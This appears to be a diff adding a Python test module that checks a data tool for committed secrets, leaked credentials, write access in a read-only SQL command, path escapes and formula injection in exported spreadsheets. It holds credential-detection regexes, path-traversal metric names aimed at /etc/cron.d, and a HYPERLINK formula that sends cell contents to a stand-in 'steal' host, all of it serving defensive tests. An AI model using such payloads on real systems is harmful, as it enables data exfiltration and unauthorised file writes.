@@ -1,0 +1,98 @@
+"""Security: no secrets in the repository or in logs, a read-only `sli sql`, input names that cannot
+leave SLI_HOME, and spreadsheets that never run formula-looking text."""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import re
+import shutil
+import subprocess
+import zipfile
+
+import pandas as pd
+
+from conftest import REPO, sli
+from lginform_server import FakeLgInform, Metric
+
+# Shapes of real credentials: cloud keys, private keys, tokens, and secrets assigned in code or config.
+KEY_LIKE = [
+    re.compile(r"AKIA[0-9A-Z]{16}"),
+    re.compile(r"-----BEGIN [A-Z ]*PRIVATE KEY-----"),
+    re.compile(r"\bgh[pousr]_[A-Za-z0-9]{30,}"),
+    re.compile(r"\bxox[baprs]-[A-Za-z0-9-]{10,}"),
+    re.compile(r"(?i)(secret|password|passwd|api[_-]?key|token)\s*[:=]\s*['\"][A-Za-z0-9/+_=-]{16,}['\"]"),
+]
+TEST_ONLY = {"test-secret-do-not-log"}  # the local test server's own, which no real service knows
+
+
+def test_no_key_like_string_is_committed():
+    files = subprocess.run(["git", "ls-files", "-z"], cwd=REPO, capture_output=True, check=True).stdout.split(b"\0")
+    found = []
+    for name in filter(None, files):
+        path = REPO / name.decode()
+        if not path.is_file() or path.stat().st_size > 5_000_000:
+            continue
+        text = path.read_bytes().decode("utf-8", errors="ignore")
+        found += [f"{name.decode()}: {m.group(0)[:40]}" for pattern in KEY_LIKE for m in pattern.finditer(text)
+                  if not any(allowed in m.group(0) for allowed in TEST_ONLY)]
+    assert found == []
+
+
+def test_the_scan_finds_a_planted_key():
+    planted = 'LGINFORM_SECRET = "3f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c"'
+    assert any(pattern.search(planted) for pattern in KEY_LIKE)
+
+
+def test_the_secret_is_in_no_output_log_or_file_after_a_failed_call(tmp_path):
+    secret = "s3cr3t-value-that-must-never-be-printed"
+    with FakeLgInform(metrics=[Metric("101", "one")]) as server:
+        env = {"SLI_LGINFORM_URL": server.base_url, "SLI_LGINFORM_KEY": server.key, "SLI_LGINFORM_SECRET": secret}
+        failed = sli(tmp_path, "ingest", "lginform", check=False, env=env)
+    assert failed.returncode != 0 and "check the application key and secret" in failed.stderr
+    assert "Traceback" not in failed.stderr
+    written = b"".join(p.read_bytes() for p in tmp_path.rglob("*") if p.is_file())
+    assert secret not in failed.stdout + failed.stderr and secret.encode() not in written
+
+
+def test_sli_sql_cannot_write(published_home):
+    published = published_home / "warehouse" / "sli.duckdb"
+    before = hashlib.sha256(published.read_bytes()).hexdigest()
+    for statement in ("delete from mart_sector_overview", "create table scratch as select 1 as x",
+                      "drop table dim_council", "update dim_council set council_name = 'x'",
+                      "insert into dim_metric (metric_id) values ('x')"):
+        result = sli(published_home, "sql", statement, check=False)
+        assert result.returncode != 0 and "read-only" in result.stderr.lower(), (statement, result.stderr)
+        assert "Traceback" not in result.stderr
+    assert hashlib.sha256(published.read_bytes()).hexdigest() == before
+
+
+def test_names_from_inputs_cannot_leave_sli_home(tmp_path):
+    home, outside = tmp_path / "home", tmp_path / "escaped"
+    hostile = [Metric("../../escaped/evil", "path up"), Metric("/etc/cron.d/evil", "absolute path")]
+    with FakeLgInform(metrics=hostile) as server:
+        env = {"SLI_LGINFORM_URL": server.base_url, "SLI_LGINFORM_KEY": server.key,
+               "SLI_LGINFORM_SECRET": server.secret}
+        sli(home, "ingest", "lginform", "--metric", hostile[0].identifier, "--metric", hostile[1].identifier,
+            check=False, env=env)
+    assert not outside.exists()
+    assert {p.parent for p in (home / "landing").rglob("*") if p.is_file()} == {home / "landing" / "lginform"}
+    assert all(".." not in p.name and "/" not in p.name for p in (home / "landing" / "lginform").iterdir())
+
+
+def test_exported_workbooks_keep_formula_looking_text_as_text(tmp_path, published_home):
+    home = tmp_path / "home"
+    shutil.copytree(published_home, home, ignore=shutil.ignore_patterns("airflow"))
+    hostile = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Open")'
+    with (home / "inbox" / "ope" / "ope_partnership_outputs.csv").open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["Partnership", "Measure", "Value", "Unit", "Basis", "Scope", "As of date"])
+        writer.writerow([hostile, "jobs_created", "12", "jobs", "achieved", "partnership", "2025-03-31"])
+    sli(home, "refresh")
+    sli(home, "export")
+    [workbook] = (home / "exports").glob("*/*.xlsx")
+    with zipfile.ZipFile(workbook) as archive:
+        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in sheet for sheet in sheets)  # no cell is a formula
+    ope = pd.read_excel(workbook, sheet_name="One Public Estate", engine="calamine")
+    assert hostile in set(ope["partnership_name"])
